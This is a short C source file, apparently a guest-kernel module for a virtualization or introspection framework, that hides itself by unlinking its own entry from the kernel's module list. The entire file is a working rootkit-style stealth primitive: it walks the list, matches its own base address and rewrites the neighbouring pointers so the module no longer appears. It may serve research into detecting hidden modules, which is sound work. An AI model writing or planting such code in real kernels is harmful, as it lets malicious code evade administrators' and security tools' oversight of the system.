/*
 * Hides this very module: takes it out of the ring of modules, and stays where it is. Runs at EL1 in the
 * guest's kernel.
 */
#include <rw/guest_api.h>

static struct rw_guest_node *node_at(uint64_t address) {
  return (struct rw_guest_node *)address;
}

RW_MODULE_ENTRY int module_entry(const struct rw_guest_api *api) {
  const struct rw_guest_layout *layout = api->layout;
  struct rw_guest_node *head = node_at(layout->module_list);
  for (struct rw_guest_node *node = head->next; node != head; node = node->next) {
    const uint64_t module = (uint64_t)node - layout->module_node;
    if (*(const uint64_t *)(module + layout->module_base) != RW_GUEST_MODULE_VA) continue;
    node->prev->next = node->next;
    node->next->prev = node->prev;
    return 0;
  }
  return 1;
}
